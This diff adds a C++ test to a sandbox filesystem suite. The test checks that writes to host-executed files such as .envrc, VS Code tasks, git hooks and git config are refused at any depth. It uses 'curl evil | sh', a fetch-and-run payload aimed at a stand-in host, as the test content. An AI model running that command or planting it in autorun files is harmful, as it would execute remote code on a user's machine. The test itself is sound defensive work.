@@ -182,6 +182,26 @@ TEST_F(FsTest, ProtectedPathsCannotBeWrittenCreatedRemovedOrMoved) {
   EXPECT_EQ(Slurp(ws_ / ".git/hooks/pre-commit"), "#!/bin/sh\n");
 }
 
+// The daemon writes on the host with no check after a run to follow it: host-executed content
+// anywhere (a protected name at any depth, a new repository's hooks and config) is refused.
+TEST_F(FsTest, HostExecutedContentAtAnyDepthIsNotWritten) {
+  for (const char* d : {"pkg/a", "pkg/.vscode", "newrepo/.git/hooks"}) {
+    std::filesystem::create_directories(ws_ / d);
+  }
+  for (const std::string& p :
+       {std::string("pkg/a/.envrc"), std::string("pkg/.vscode/tasks.json"),
+        std::string("newrepo/.git/hooks/pre-commit"), std::string("newrepo/.git/config")}) {
+    auto w = fs_->Write(p, "curl evil | sh", std::nullopt, true);
+    ASSERT_FALSE(w.ok()) << p;
+    ExpectDenied(w.error(), p);
+    EXPECT_FALSE(std::filesystem::exists(ws_ / p)) << p;
+  }
+  // Control: beside them, ordinary files are written.
+  ASSERT_TRUE(fs_->Write("pkg/a/notes", "ok", std::nullopt, true).ok());
+  ASSERT_TRUE(fs_->Write("newrepo/.git/description", "ok", std::nullopt, true).ok());
+  EXPECT_EQ(Slurp(ws_ / "pkg/a/notes"), "ok");
+}
+
 TEST_F(FsTest, MkdirRemoveRename) {
   ASSERT_TRUE(fs_->Mkdir("a/b/c", true).ok());
   auto again = fs_->Mkdir("a/b/c", false);
